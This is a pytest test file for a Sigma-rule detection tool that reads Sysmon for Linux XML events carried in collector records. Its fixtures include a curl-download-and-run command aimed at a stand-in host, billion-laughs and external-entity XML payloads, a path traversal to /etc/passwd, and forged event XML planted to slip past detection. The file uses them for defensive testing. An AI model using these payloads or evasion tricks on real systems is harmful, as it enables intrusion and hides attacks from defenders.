"""Sysmon for Linux events as collectors deliver them: one syslog line of event XML, as text in a record."""

import io
import json
import os
import tempfile
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from clitools import filter_file, alerts, records, run_cli
from sigmahq import SIGMAHQ
from pipeshell_filter.cli import build_prefilter
from pipeshell_filter.engine import Engine
from pipeshell_filter.events.fields import FieldResolver, builtin_profiles
from pipeshell_filter.events.xml_event import XmlEventProblem, carried_event, hides_text, parse_event_xml
from pipeshell_filter.io import parallel
from pipeshell_filter.io import prefilter as pf
from pipeshell_filter.io.stream import Diagnostics, Filter, Output
from pipeshell_filter.sigma.compile import compile_plan
from pipeshell_filter.sigma.rule import parse_rule

CURL_RULE = os.path.join(SIGMAHQ, "rules", "linux", "process_creation", "proc_creation_lnx_curl_wget_exec_tmp.yml")
GUID = "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"


def sysmon_xml(command_xml: str, host: str = "web1", record: int = 42, image_xml: str = "/usr/bin/sh",
               when: str = "2026-12-04T10:00:00.123456000Z") -> str:
    """A process creation as Sysmon for Linux's outputxml.cpp writes it (pugixml, raw, no declaration);
    the values given already XML-escaped."""
    return (f'<Event><System><Provider Name="Linux-Sysmon" Guid="{GUID}"/><EventID>1</EventID><Version>5</Version>'
            '<Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>'
            f'<TimeCreated SystemTime="{when}"/><EventRecordID>{record}</EventRecordID><Correlation/>'
            '<Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel>'
            f'<Computer>{host}</Computer><Security UserId="0"/></System><EventData>'
            '<Data Name="RuleName">-</Data><Data Name="UtcTime">2026-12-04 10:00:00.123</Data>'
            '<Data Name="ProcessGuid">{de9527a5-6a3f-616f-a52f-d98154560000}</Data><Data Name="ProcessId">4321</Data>'
            f'<Data Name="Image">{image_xml}</Data><Data Name="FileVersion">-</Data>'
            f'<Data Name="CommandLine">{command_xml}</Data><Data Name="CurrentDirectory">/root</Data>'
            '<Data Name="User">root</Data><Data Name="LogonId">0</Data><Data Name="ParentProcessId">800</Data>'
            '<Data Name="ParentImage">/usr/bin/bash</Data><Data Name="ParentCommandLine">bash</Data>'
            '<Data Name="ParentUser">root</Data></EventData></Event>')


def syslog_line(xml: str, host: str = "web1") -> str:
    return f"Dec  4 10:00:00 {host} sysmon: {xml}"


# How collectors hand the line over: Fluent Bit's tail (no parser), Vector's file source, Fluent Bit's
# tail or syslog input with its syslog parser (the header parsed off), a journald reader.
WRAPPINGS = {
    "fluent-bit tail": lambda xml: {"log": syslog_line(xml)},
    "vector file": lambda xml: {"message": syslog_line(xml), "host": "collector01", "file": "/var/log/syslog",
                                "source_type": "file", "timestamp": "2026-12-04T11:59:59.000000Z"},
    "syslog parser": lambda xml: {"pri": "30", "time": "Dec  4 10:00:00", "host": "web1", "ident": "sysmon",
                                  "pid": "812", "message": xml},
    "journald": lambda xml: {"_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sysmon", "MESSAGE": xml},
}

DOWNLOAD = 'sh -c &quot;/usr/bin/curl -s http://x/a.sh -o /tmp/a.sh &amp;&amp; sh /tmp/a.sh&quot;'


def ndjson(*events) -> bytes:
    return b"".join(json.dumps(event).encode() + b"\n" for event in events)


def test_the_xml_is_read_in_the_evtx_shape():
    event = carried_event({"log": syslog_line(sysmon_xml(DOWNLOAD))})
    system = event["Event"]["System"]
    assert system["Provider"] == {"#attributes": {"Name": "Linux-Sysmon", "Guid": GUID}}
    assert system["EventID"] == "1" and system["Channel"] == "Linux-Sysmon/Operational"
    assert system["Correlation"] is None
    assert system["TimeCreated"]["#attributes"]["SystemTime"] == "2026-12-04T10:00:00.123456000Z"
    assert event["Event"]["EventData"]["CommandLine"] == \
        'sh -c "/usr/bin/curl -s http://x/a.sh -o /tmp/a.sh && sh /tmp/a.sh"'
    assert carried_event({"message": "GET /<EventData> HTTP/1.1"}) is None  # not an <Event element
    assert carried_event({"log": "x", "n": 3}) is None


@pytest.mark.skipif(not os.path.isfile(CURL_RULE), reason="the shared SigmaHQ checkout is absent")
@pytest.mark.parametrize("wrapping", sorted(WRAPPINGS))
def test_each_collector_wrapping_meets_a_sigmahq_linux_rule(wrapping):
    """Before, every such record was a flat event with one text: no rule of product linux saw it."""
    events = [WRAPPINGS[wrapping](sysmon_xml(DOWNLOAD)),
              WRAPPINGS[wrapping](sysmon_xml("sh -c ls /tmp/", record=43))]
    result = run_cli(["--rule", CURL_RULE, "--emit", "matches"], ndjson(*events))
    assert result.returncode == 0, result.stderr
    found = alerts(result.stdout)
    assert len(found) == 1, result.stdout
    # the time and the host are the event's, from its XML (not Vector's host or timestamp)
    assert found[0]["@timestamp"] == "2026-12-04T10:00:00.123456Z"
    assert found[0]["related"]["hosts"] == ["web1"]
    assert found[0]["sigma"]["events"][0]["record_id"] == 42
    matched = [r for r in records(result.stdout) if "sigma" in r and r.get("event", {}).get("kind") != "alert"]
    assert [{k: v for k, v in r.items() if k != "sigma"} for r in matched] == events[:1]  # the record as it came


HAND_RULE = """
title: curl from a hidden path
id: 7d3c9f5e-1b2a-4c6d-8e9f-0a1b2c3d4e5f
logsource: {product: linux, category: process_creation}
detection:
  image: {Image|endswith: '/curl'}
  args: {CommandLine|contains: 'a&b<c>'}
  condition: image and args
"""


def test_a_hand_written_rule_matches_values_escaped_as_entities(tmp_path):
    """``&#99;url`` is curl, ``&amp;`` an ampersand: neither is in the line's bytes as the rule spells it,
    so the prefilter must send the line on to be read."""
    rule = tmp_path / "r.yml"
    rule.write_text(HAND_RULE)
    event = {"log": syslog_line(sysmon_xml("x a&amp;b&lt;c&#x3E; y", image_xml="&#x2F;usr/bin/&#99;url"))}
    other = {"log": syslog_line(sysmon_xml("x a&amp;b y", image_xml="/usr/bin/curl"))}
    for extra in ([], ["--no-prefilter"], ["--prefilter-engine", "python"]):
        result = run_cli(["--rule", str(rule), "--emit", "alerts", *extra], ndjson(event, other))
        assert result.returncode == 0, result.stderr
        assert [a["sigma"]["events"][0]["line"] for a in alerts(result.stdout)] == [1], (extra, result.stdout)


def test_control_characters_pugixml_writes_as_references_are_read_not_refused(tmp_path):
    """Sysmon for Linux writes its XML with pugixml, which spells a C0 control character of a value as a
    decimal reference (``&#27;``): XML 1.0 has no such character, so expat refused the whole event, and a
    command line given an ESC or \\x01 slipped past every linux rule."""
    rule = tmp_path / "r.yml"
    rule.write_text(HAND_RULE.replace("a&b<c>", "/tmp/a.sh"))
    sneaky = {"log": syslog_line(sysmon_xml("curl -o /tmp/a.sh&#01; &#27;[0m", image_xml="/usr/bin/curl"))}
    for extra in ([], ["--no-prefilter"]):
        result = run_cli(["--rule", str(rule), "--emit", "alerts", *extra], ndjson(sneaky))
        assert result.returncode == 0 and b"not read" not in result.stderr, result.stderr
        assert len(alerts(result.stdout)) == 1, (extra, result.stdout)


@given(st.text(st.characters(max_codepoint=0xE040, exclude_categories=["Cs"]), max_size=12),
       st.lists(st.integers(0, 2), max_size=12))
@example("\x01\ue000\ue001", [1, 1, 1])
@example("\ue000\x1b\ue000\ue000", [0, 2, 0, 1])
@example("\x00\ufffe", [0, 0])
@example("\ue000\ue020\x01\ue000", [0, 0, 0, 2])
def test_every_character_a_writer_may_put_in_a_value_reads_back_as_itself(value, choices):
    """A value's characters, each written raw (but markup and the blanks XML normalises), as a decimal reference
    (pugixml's ``&#NN;``) or a hexadecimal one, read back as written, in text and in an attribute alike."""
    out = []
    for ch, how in zip(value, choices + [0] * len(value)):
        if how == 2:
            out.append(f"&#x{ord(ch):X};")
        elif how == 1 or ch in "&<>\"'\t\n\r":  # raw, a C0 control is as a JSON \\u0001 decoded hands it over
            out.append(f"&#{ord(ch):02d};")
        else:
            out.append(ch)
    written = "".join(out)
    event = parse_event_xml(f'<Event><System><Computer a="{written}">{written}</Computer></System></Event>')
    assert event["Event"]["System"]["Computer"] == {"#attributes": {"a": value}, "#text": value} if value else \
        {"#attributes": {"a": ""}}


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)) + ']>')
HOSTILE = {
    "billion laughs": BILLION_LAUGHS + "<Event><System/><EventData><Data Name='CommandLine'>&lol9; curl</Data>"
                                       "</EventData></Event>",
    "entities declared inside": "<Event>" + BILLION_LAUGHS + "<System/>&lol9; curl</Event>",
    "deep": "<Event><System/>" + "<a>" * 100_000 + "curl" + "</a>" * 100_000 + "</Event>",
    "truncated": sysmon_xml("/usr/bin/curl -s http://x/a.sh -o /tmp/a.sh")[:700],
    "doctype": '<!DOCTYPE Event SYSTEM "file:///etc/passwd"><Event><System/>curl</Event>',
    "external entity": "<Event><System/><Data>&xxe; curl</Data></Event>",
    "not an event": "<Event x='1'><Evil><System/>curl</Evil></Event>",
    "lone surrogate": sysmon_xml("/usr/bin/curl \ud800"),  # JSON's \\ud800: the parser takes UTF-8 only
}


@pytest.mark.parametrize("prefilter", [[], ["--no-prefilter"]])
def test_hostile_xml_is_a_diagnostic_and_the_stream_goes_on(tmp_path, prefilter):
    rule = tmp_path / "r.yml"
    rule.write_text(HAND_RULE.replace("a&b<c>", "curl"))
    good = {"log": syslog_line(sysmon_xml("curl x", image_xml="/usr/bin/curl"))}
    lines = []
    for payload in HOSTILE.values():
        lines += [{"log": syslog_line(payload)}, good]
    data = ndjson(*lines)
    started = time.monotonic()
    result = run_cli(["--rule", str(rule), "--emit", "all", *prefilter], data)
    assert time.monotonic() - started < 30
    assert result.returncode == 0, result.stderr
    out = records(result.stdout)
    assert len(out) == len(lines) + len(HOSTILE)  # every line passed on, an alert per good event
    assert [r for r in out if r.get("event", {}).get("kind") != "alert" and "sigma" not in r] == lines[0::2]
    assert b"Traceback" not in result.stderr
    said = [line for line in result.stderr.decode().splitlines() if "not read" in line and "line " in line]
    if prefilter:  # with the prefilter, a line it rules out is passed on unread, as any line
        assert len(said) == len(HOSTILE), result.stderr
    assert f"{len(said)} line(s) whose event XML was not read (xml_unread)" in result.stderr.decode()


def test_hostile_xml_is_refused_quickly():
    for name, payload in HOSTILE.items():
        started = time.monotonic()
        with pytest.raises(XmlEventProblem):
            carried_event({"log": syslog_line(payload)})
        assert time.monotonic() - started < 1, name
    with pytest.raises(XmlEventProblem):
        parse_event_xml("<Event><System/>" + "<a/>" * 300_000 + "</Event>")


def test_a_line_of_xml_marks_is_scanned_in_linear_time():
    """Each mark (``<E``, ``<Event``) was searched back to its line's start: a hostile line of 4 MiB of them
    held the prefilter half a minute, one of 16 MiB (the default --max-line-bytes) some 20 minutes."""
    line = b'{"log": "' + b"<Event" * ((1 << 22) // 6) + b'"}\n'
    for engine in pf.available_engines():
        started = time.monotonic()
        assert pf.Prefilter([b"wget"], engine).scan(line, 0, len(line)) == ([], []), engine
        assert time.monotonic() - started < 5, engine


# ---------------------------------------------------------------- the prefilter stays sound

RULES = [
    HAND_RULE,
    HAND_RULE.replace("7d3c9f5e", "8d3c9f5e").replace("a&b<c>", "curl").replace("/curl", "h"),
    HAND_RULE.replace("7d3c9f5e", "9d3c9f5e").replace("a&b<c>", "wget -q").replace("Image|endswith: '/curl'",
                                                                                  "User: root"),
    HAND_RULE.replace("7d3c9f5e", "6d3c9f5e").replace("a&b<c>", 'q"r\\s'),  # JSON escapes a quote, a backslash
]
WORDS = ["curl", "a&b<c>", "wget -q", "/usr/bin/curl", "x", " ", "&", "<", ">", '"', "'", "\t", "é", 'q"r\\s', "\\"]


def _spelled(text: str, choices: list) -> str:
    """``text`` as XML character data, each character written as itself (when XML allows) or as a
    reference, as ``choices`` say."""
    named = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;"}
    out = []
    for ch, how in zip(text, choices + [0] * len(text)):
        if how == 1:
            out.append(f"&#{ord(ch)};")
        elif how == 2:
            out.append(f"&#x{ord(ch):X};")
        elif how == 3 and ch in named:
            out.append(named[ch])
        else:
            out.append(named.get(ch, ch) if ch in "&<" else ch)
    return "".join(out)


COMMANDS = st.lists(st.sampled_from(WORDS), max_size=6).map("".join)
EVENT = st.tuples(COMMANDS, st.lists(st.integers(0, 3), max_size=40),
                  st.sampled_from(sorted(WRAPPINGS) + ["syslog file"]),
                  st.booleans())


def run_filter(data: bytes, engine, rules) -> bytes:
    plans = [compile_plan(parse_rule(text, f"r{i}.yml")) for i, text in enumerate(rules)]
    scanner, index = (None, None) if engine is None else build_prefilter(plans, engine)
    with tempfile.TemporaryFile() as source, tempfile.TemporaryFile() as sink:
        source.write(data)
        source.seek(0)
        stream_filter = Filter(Engine(plans, FieldResolver(builtin_profiles()), 0), Output(sink.fileno()),
                               Diagnostics(io.StringIO()), "all", prefilter=scanner, index=index, clock=lambda: 0)
        stream_filter.run(source.fileno(), live=False, block_size=1 << 16)
        stream_filter.finish()
        sink.seek(0)
        return sink.read()


def _line(command: str, choices: list, wrapping: str, go_escaped: bool) -> bytes:
    xml = sysmon_xml(_spelled(command, choices), image_xml=_spelled("/usr/bin/curl", choices[::-1]))
    if wrapping == "syslog file":  # not JSON: the XML as the file holds it (``RuleIndex.rules_for_text``)
        return syslog_line(xml).encode()
    line = json.dumps(WRAPPINGS[wrapping](xml))
    return (line.replace("<", "\\u003c").replace("&", "\\u0026") if go_escaped else line).encode()  # Go's encoder


@given(st.lists(EVENT, min_size=1, max_size=8), st.sampled_from([1, 3, 4]))
@example([("curl", [1], "fluent-bit tail", False)], 1)
@example([("a&b<c>", [0], "vector file", True)], 3)
@example([('q"r\\s', [0], "syslog file", False)], 4)
def test_the_prefilter_never_changes_the_output_of_xml_lines(events, rule_count):
    """Without ``hides_text`` a line holding ``&#99;url`` was ruled out by its bytes (no "curl" in them)
    and its event never matched; with ``--no-prefilter`` it did."""
    rules = RULES[:rule_count]
    data = b"".join(_line(*event) + b"\n" for event in events)
    expected = run_filter(data, None, rules)
    for engine in pf.available_engines():
        assert run_filter(data, engine, rules) == expected, engine


def test_only_lines_carrying_xml_and_a_reference_or_blank_are_held_back():
    plain = json.dumps({"log": syslog_line(sysmon_xml("curl x"))}).encode()
    assert not hides_text(plain)
    assert hides_text(plain.replace(b"curl", b"&#99;url"))
    assert hides_text(plain.replace(b"curl", b"\\u0026#99;url"))
    assert hides_text(plain.replace(b'Name=\\"User\\"', b'Name=\\"U\\tser\\"'))
    assert not hides_text(b'{"message": "a & b \\t c"}')  # no event XML: the JSON argument alone
    for engine in pf.available_engines():
        scanner = pf.Prefilter([b"wget"], engine)
        lines = [plain, plain.replace(b"curl", b"&#99;url"), b'{"message": "a & b"}']
        assert scanner.judge(lines) == [pf.SKIP, pf.CANDIDATE, pf.SKIP], engine


def _json_spelled(text: str, choices: list) -> bytes:
    """``text`` in a JSON string's bytes (no quotes), each character as itself (when JSON allows), its short
    escape or a ``\\u`` escape in either case of hex digit, as ``choices`` say: every spelling a JSON writer
    may use."""
    short = {"\\": "\\\\", '"': '\\"', "\t": "\\t", "\n": "\\n", "\r": "\\r"}
    out = []
    for ch, how in zip(text, choices + [0] * len(text)):
        if how == 1 or (how == 0 and ch < " "):
            out.append(f"\\u{ord(ch):04x}" if ch not in short or how == 1 else short[ch])
        elif how == 2:
            out.append(f"\\u{ord(ch):04X}")
        else:
            out.append(short.get(ch, ch))
    return "".join(out).encode()


BACKSLASHED = st.text(st.sampled_from('\\\\\\tnru0926aAdD&\t\r\n "x'), max_size=24)
SPELLINGS = st.lists(st.integers(0, 2), max_size=24)


@given(BACKSLASHED, BACKSLASHED, BACKSLASHED, st.lists(SPELLINGS, min_size=3, max_size=3), st.booleans())
@example("C:\\Windows\\temp\\rundll32 \\new", "", "", [[], [], []], False)
@example("\\\t", "", "", [[], [], []], False)
@example("x", "a\tb & c ", "Process Create:\r\nRuleName: -", [[], [], []], True)
def test_a_line_hides_text_exactly_when_its_decoded_xml_holds_a_reference_or_blank(text, header, message,
                                                                                    spellings, message_first):
    """An escaped backslash before ``t``, ``n`` or ``r`` (``\\\\temp`` in the raw bytes of ``C:\\temp``) was
    taken for a tab's escape, and a CR LF in the record's ``Message`` (in every Windows event's) for one in
    its XML: every Render_Event_As_XML line went to the prefilter's full path.  Only the XML's text counts,
    from ``<Event`` on: not a syslog header before it, not the record's other values."""
    xml = sysmon_xml(text)
    at = xml.index(text, xml.index('"CommandLine">')) if text else 0
    system = (_json_spelled(header, spellings[0]) + _json_spelled(xml[:at], []) + _json_spelled(text, spellings[1])
              + _json_spelled(xml[at + len(text):], []))
    fields = [b'"System": "' + system + b'"', b'"Message": "' + _json_spelled(message, spellings[2]) + b'"']
    raw = b"{" + b", ".join(fields[::-1] if message_first else fields) + b"}"
    assert json.loads(raw) == {"System": header + xml, "Message": message}
    assert hides_text(raw) == any(ch in text for ch in "&\t\r\n")


def test_windows_paths_in_xml_are_judged_by_their_bytes():
    """A Render_Event_As_XML line whose paths hold ``\\temp``, ``\\rundll32``, ``\\new``: no tab, CR or LF in
    its decoded text, so it is ruled out by its bytes; an odd run of backslashes before ``t`` is a tab."""
    path = sysmon_xml("C:\\Windows\\temp\\rundll32.exe C:\\new\\x.dll", image_xml="C:\\Windows\\rundll32.exe")
    line = json.dumps({"System": path, "Message": "Process Create"}).encode()
    assert b"\\\\temp" in line and not hides_text(line)
    assert not hides_text(json.dumps({"System": path, "Message": "Process Create:\r\nRuleName: -"}).encode())
    assert hides_text(line.replace(b"\\\\temp", b"\\\\\\temp"))  # a backslash, then a tab
    for engine in pf.available_engines():
        assert pf.Prefilter([b"wget"], engine).judge([line]) == [pf.SKIP], engine
    # a line that is a run of a million backslashes: the verdict by parity, in one pass (by hand: ms)
    run = b"\\" * (1 << 20)
    head = b'{"log": "<Event><System/>'
    assert not hides_text(head + run + b't"}')
    assert hides_text(head + run + b'\\t"}')
    assert not hides_text(head + run + b'u0026"}')
    assert hides_text(head + run + b'\\u0026"}')


def _filter_file(data: bytes, workers: int) -> tuple:
    plans = [compile_plan(parse_rule(HAND_RULE.replace("a&b<c>", "curl"), "r.yml"))]
    return filter_file(plans, data, workers)


@pytest.mark.skipif(not parallel.available(), reason="no os.fork / os.pread here")
def test_worker_processes_read_the_xml_as_the_filter_does():
    """Detecting workers (``--workers``, a regular file) match the XML's event too, and leave a refused
    one to the parent, which says so: the output and the diagnostics are those of one process."""
    good = {"log": syslog_line(sysmon_xml("curl &amp; x", image_xml="/usr/bin/curl"))}
    bad = {"log": syslog_line(HOSTILE["truncated"] + " curl")}
    data = ndjson(*([good, bad, {"message": "quiet"}] * 200))
    alone, together = _filter_file(data, 0), _filter_file(data, 2)
    assert together == alone
    assert len(alerts(alone[0])) == 200 and alone[1]["xml_unread"] == 200


def test_a_text_that_names_an_event_element_but_holds_no_event_xml_is_read_as_it_is_in_silence(tmp_path):
    """A web log's URL or a chat message may hold ``<Event>``: with no ``<System`` after it, it is no
    event's XML, so the record is read as it is and nothing is said (no ``xml_unread`` for every such line)."""
    rule = tmp_path / "r.yml"
    rule.write_text(HAND_RULE.replace("a&b<c>", "curl"))
    plain = [{"message": "GET /search?q=<Event>curl</Event> HTTP/1.1"}, {"log": "<Event id='3'> curl"}]
    result = run_cli(["--rule", str(rule), "--emit", "all"], ndjson(*plain))
    assert result.returncode == 0, result.stderr
    assert records(result.stdout) == plain
    assert b"xml" not in result.stderr.lower() and b"not read" not in result.stderr



WHOAMI_RULE = """
title: whoami all
id: 0c8e2d4a-6b1f-4e3a-9d5c-7f2a1b3c4d5e
logsource: {product: windows, category: process_creation}
detection:
  image: {Image|endswith: '\\\\whoami.exe'}
  args: {CommandLine|contains: ' /all'}
  condition: image and args
"""
DECOY = "<Event><System><EventID>1</EventID></System></Event>"  # an event's XML, as an attacker's text ends


@pytest.mark.parametrize("workers", [[], ["--workers", "2"]])
def test_a_windows_record_whose_own_text_ends_in_event_xml_is_read_as_itself(tmp_path, workers):
    """NXLog's and flat records hold event data as top-level texts, which an attacker writes: a command line
    or a script block ending in an event's XML (a last argument, a comment) was read as that XML's event
    instead, and the record went unmatched, in silence.  A record that names an EventID of its own is that
    event: its texts are its data."""
    rule = tmp_path / "r.yml"
    rule.write_text(WHOAMI_RULE)
    script = "$p = [System.IO.Pipes.NamedPipeServerStream]::new('x') # " + DECOY
    events = [
        {"EventTime": "2021-06-03T15:00:12+02:00", "Hostname": "nx1", "EventID": 1,
         "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\Windows\\System32\\whoami.exe",
         "CommandLine": "whoami /all " + DECOY},
        {"@timestamp": "2021-06-03T13:00:13Z", "EventID": 1, "Computer": "flat1",
         "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\Windows\\System32\\whoami.exe",
         "CommandLine": "whoami /all " + DECOY},
        {"EventTime": "2021-06-03T15:00:14+02:00", "Hostname": "nx2", "EventID": 4104,
         "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": script},
        {"@timestamp": "2021-06-03T13:00:15Z", "EventID": 4104, "Computer": "flat2",
         "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": script},
    ]
    path = tmp_path / "events.ndjson"
    path.write_bytes(ndjson(*events * 100))
    for args in (["--rule", str(rule)], []):
        for extra in ([], ["--no-prefilter"]):
            result = run_cli([*args, "--emit", "matches", "--input", str(path), *extra, *workers])
            assert result.returncode == 0, result.stderr
            matched = [r for r in records(result.stdout) if r.get("event", {}).get("kind") != "alert"]
            expected = events[:2] if args else events[2:]
            assert [{k: v for k, v in r.items() if k != "sigma"} for r in matched] == expected * 100, (args, extra)
            assert b"not read" not in result.stderr
    explained = tmp_path / "one.json"
    explained.write_text(json.dumps(events[0]))
    result = run_cli(["explain", "--rule", str(rule), "--event", str(explained)])
    assert result.returncode == 0, result.stderr
    assert b"profile   nxlog" in result.stdout and b"outcome   an alert" in result.stdout, result.stdout

WEB_RULE = """
title: path traversal in a query
id: 2b7c4e1d-9a3f-4d8e-b6c5-1f0e9d8c7b6a
logsource: {category: webserver}
detection:
  traversal: {cs-uri-query|contains: '../../etc/passwd'}
  condition: traversal
"""


@pytest.mark.parametrize("extra", [[], ["--no-prefilter"]])
def test_a_record_whose_own_field_is_an_event_xml_is_read_as_itself(tmp_path, extra):
    """A web server's record names no EventID, and its User-Agent is the attacker's: one ending in an event's
    XML made the record read as that forged event, and the traversal went unmatched, in silence.  Only the
    texts collectors carry a line in (``log``, ``message``, ``msg``, ``MESSAGE``) are read as event XML."""
    rule = tmp_path / "r.yml"
    rule.write_text(WEB_RULE)
    request = {"date": "2026-12-04T10:00:00Z", "c-ip": "198.51.100.7", "cs-method": "GET", "cs-uri-stem": "/a.php",
               "cs-uri-query": "f=../../etc/passwd"}
    forged = [dict(request, **{"cs-user-agent": DECOY}), dict(request, **{"cs-referer": syslog_line(sysmon_xml("x"))})]
    result = run_cli(["--rule", str(rule), "--emit", "alerts", *extra], ndjson(*forged))
    assert result.returncode == 0 and b"not read" not in result.stderr, result.stderr
    assert [a["sigma"]["events"][0]["line"] for a in alerts(result.stdout)] == [1, 2], result.stdout
    for key in ("log", "message", "msg", "MESSAGE"):
        assert carried_event({key: syslog_line(sysmon_xml("x"))}) is not None, key
    assert carried_event({"cs-user-agent": syslog_line(sysmon_xml("x"))}) is None


TWO_CURLS = HAND_RULE.replace("a&b<c>", "curl") + """name: curl_hidden
---
title: two curls on a host
id: 5e4d3c2b-1a09-4f8e-9d7c-6b5a4f3e2d1c
correlation: {type: event_count, rules: [curl_hidden], group-by: [Computer], timespan: 5m, condition: {gte: 2}}
"""


@pytest.mark.parametrize("prefilter", [[], ["--no-prefilter"]])
def test_a_match_stage_vouches_for_the_xml_time_not_the_collectors(tmp_path, prefilter):
    """Vector's ``timestamp`` (an hour after the events here) is the record's time: a heartbeat of a line
    that matched nothing took it, so the next Detection (dated by its XML) came too late for the correlate
    stage, and the two stages missed the alert the single one gives."""
    rule = tmp_path / "r.yml"
    rule.write_text(TWO_CURLS)
    lines = []
    for second, image in enumerate(["/usr/bin/curl", "/usr/bin/ls", "/usr/bin/curl"]):
        xml = sysmon_xml(f"{image} x", record=second, image_xml=image, when=f"2026-12-04T10:00:0{second}.000000000Z")
        record = WRAPPINGS["vector file"](xml)
        lines.append(dict(record, timestamp=f"2026-12-04T11:00:0{second}.000000Z"))
    single = run_cli(["--rule", str(rule), *prefilter], ndjson(*lines))
    assert len(alerts(single.stdout)) == 1, single.stderr
    matched = run_cli(["--rule", str(rule), "--stage", "match", *prefilter], ndjson(*lines))
    beats = [r["time"] for r in records(matched.stdout) if r.get("type") == "sigma.heartbeat"]
    assert beats and max(beats) < 1796382000 * 10 ** 9, matched.stdout  # before 11:00, the collector's time
    correlated = run_cli(["--rule", str(rule), "--stage", "correlate"], matched.stdout)
    assert correlated.returncode == 0, correlated.stderr
    assert len(alerts(correlated.stdout)) == 1, correlated.stderr


def _syslog_file() -> bytes:
    """Sysmon for Linux's own syslog file: its lines among other daemons', none of them JSON.  The curl
    is hidden behind a character reference in one, a backslash (doubled in JSON, single here) in another."""
    lines = ["Dec  4 09:59:59 web1 systemd[1]: Started Session 3 of user root.",
             syslog_line(sysmon_xml("/usr/bin/&#99;url -o /tmp/a", record=1, image_xml="/usr/bin/curl",
                                    when="2026-12-04T10:00:01.000000000Z")),
             "Dec  4 10:00:02 web1 CRON[99]: (root) CMD (run-parts /etc/cron.hourly)",
             syslog_line(sysmon_xml("/usr/bin/ls \\tmp", record=2, image_xml="/usr/bin/ls",
                                    when="2026-12-04T10:00:02.000000000Z")),
             syslog_line(sysmon_xml("curl C:\\x\\y", record=3, image_xml="/usr/bin/curl",
                                    when="2026-12-04T10:00:03.000000000Z"))]
    return "".join(line + "\n" for line in lines).encode()


@pytest.mark.parametrize("extra", [[], ["--no-prefilter"], ["--prefilter-engine", "python"]])
def test_sysmon_for_linuxs_own_syslog_file_is_read_line_by_line(tmp_path, extra):
    """``cat /var/log/syslog | pipeshell-filter``: a line that is not JSON but holds an event's XML is read
    as that event (it was one more line "not JSON"), matched against every rule whatever the prefilter's
    JSON spellings, and passed on as it came; the other lines are still said to be no JSON."""
    rule = tmp_path / "r.yml"
    rule.write_text(TWO_CURLS)
    data = _syslog_file()
    result = run_cli(["--rule", str(rule), "--emit", "all", *extra], data)
    assert result.returncode == 0, result.stderr
    out = result.stdout.splitlines(keepends=True)
    assert out[:5] == data.splitlines(keepends=True)  # as it came, never enriched: text has no room for it
    found = alerts(b"".join(out[5:]))
    assert len(found) == 1 and [e["record_id"] for e in found[0]["sigma"]["events"]] == [1, 3], result.stdout
    assert found[0]["@timestamp"] == "2026-12-04T10:00:03Z"
    assert "5 lines; 2 matched; 1 alert; skipped: 2 invalid JSON" in result.stderr.decode(), result.stderr
    assert b"xml" not in result.stderr.lower()
    matched = run_cli(["--rule", str(rule), "--emit", "matches", *extra], data)
    assert matched.stdout.splitlines()[:2] == [data.splitlines()[1], data.splitlines()[4]]
    detections = run_cli(["--rule", str(rule), "--stage", "match", *extra], data)
    assert detections.returncode == 0, detections.stderr
    correlated = run_cli(["--rule", str(rule), "--stage", "correlate"], detections.stdout)
    assert [a["sigma"]["events"] for a in alerts(correlated.stdout)] == [found[0]["sigma"]["events"]]


def test_a_syslog_line_of_refused_xml_is_said_once_and_wrapped_lines_stay_json(tmp_path):
    rule = tmp_path / "r.yml"
    rule.write_text(TWO_CURLS)
    data = _syslog_file() + (syslog_line(HOSTILE["billion laughs"]) + "\n").encode()
    result = run_cli(["--rule", str(rule), "--emit", "all"], data)
    assert result.stdout.splitlines()[:6] == data.splitlines()
    assert len(alerts(b"\n".join(result.stdout.splitlines()[6:]))) == 1
    assert "1 line(s) whose event XML was not read (xml_unread)" in result.stderr.decode(), result.stderr
    wrapped = run_cli(["--rule", str(rule), "--emit", "all", "--non-json", "wrap"], data)
    out = records(wrapped.stdout)  # every line JSON: the lines read as their XML's events as ECS messages
    assert [r.get("message") or r["event"]["original"] for r in out[:6]] == data.decode().splitlines()
    assert [i for i, r in enumerate(out[:6]) if "message" in r] == [1, 3, 4]
    assert out[5]["error"]["type"] == "xml_unread"
    assert out[5]["error"]["message"].endswith("; the line, not JSON, is written as a pipeline_error record")
    assert b"passed on as it is" not in wrapped.stderr  # it was not: the record holds it
    assert "passed on as it is" in result.stderr.decode()  # --non-json pass: it was
    assert len(alerts(wrapped.stdout)) == 1
    alone = run_cli(["--rule", str(rule)], data)  # --emit alerts: the line is not written at all
    assert "xml_unread" in alone.stderr.decode() and b"passed on" not in alone.stderr, alone.stderr


@pytest.mark.skipif(not parallel.available(), reason="no os.fork / os.pread here")
def test_worker_processes_leave_the_syslog_lines_to_the_filter_which_reads_them():
    data = _syslog_file() * 100
    alone, together = _filter_file(data, 0), _filter_file(data, 2)
    assert together == alone
    records_out = b"\n".join(line for line in alone[0].splitlines() if line.startswith(b"{"))
    assert len(alerts(records_out)) == 200  # two curls in each copy


def test_several_inputs_are_merged_by_the_xml_time_not_the_collectors(tmp_path):
    """The merge of ``--input`` files keyed a line carrying an event's XML by its collector's ``timestamp``:
    here the second file's collector ran an hour late, and its events (dated by their XML between the
    first file's) came after them all, as a correlation would have read them too."""
    def line(second: int, late: int) -> dict:
        xml = sysmon_xml("ls", record=second, when=f"2026-12-04T10:00:0{second}.000000000Z")
        return dict(WRAPPINGS["vector file"](xml), timestamp=f"2026-12-04T1{late}:00:0{second}.000000Z")
    (tmp_path / "a.ndjson").write_bytes(ndjson(line(1, 0), line(3, 0), line(5, 0)))
    (tmp_path / "b.ndjson").write_bytes(ndjson(line(2, 1), line(4, 1)))
    result = run_cli(["--emit", "all", "--input", str(tmp_path / "a.ndjson"), "--input", str(tmp_path / "b.ndjson")])
